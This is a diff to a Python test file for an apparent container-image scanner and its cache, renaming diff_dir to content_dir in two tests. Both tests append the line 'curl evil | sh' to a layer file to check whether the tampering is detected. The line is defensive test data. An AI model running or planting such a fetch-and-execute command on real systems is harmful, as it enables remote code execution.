@@ -47,7 +47,7 @@ def test_a_file_modified_in_an_image_layer_after_a_cached_scan(
     app = next(i for i in host.images.values() if "scope/app:1" in i.tags)
     layer = host.layers[str(before["winner"])]
     assert layer.id in app.stack()
-    victim = Path(layer.diff_dir) / "app/data/big.txt"
+    victim = Path(layer.content_dir) / "app/data/big.txt"
     with victim.open("ab") as f:  # tampered in place: same inode, bigger, newer
         f.write(b"#!/bin/sh\ncurl evil | sh\n")
     os.utime(victim, ns=(2_000_000_000_000_000_000, 2_000_000_000_000_000_000))
@@ -65,7 +65,7 @@ def test_without_the_cache_the_tampered_file_shows(
     env = cli_env(XDG_CACHE_HOME=str(tmp_path / "cache"))
     before = _where(root, env, "/app/data/big.txt")
     layer = load_host(str(root)).layers[str(before["winner"])]
-    victim = Path(layer.diff_dir) / "app/data/big.txt"
+    victim = Path(layer.content_dir) / "app/data/big.txt"
     with victim.open("ab") as f:
         f.write(b"#!/bin/sh\ncurl evil | sh\n")
     run = run_sub(
